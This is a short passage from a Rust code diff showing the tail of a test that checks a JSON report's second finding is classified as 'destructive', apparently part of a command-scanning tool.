+        assert_eq!(json["findings"][1]["kind"], "destructive");
+    }
 }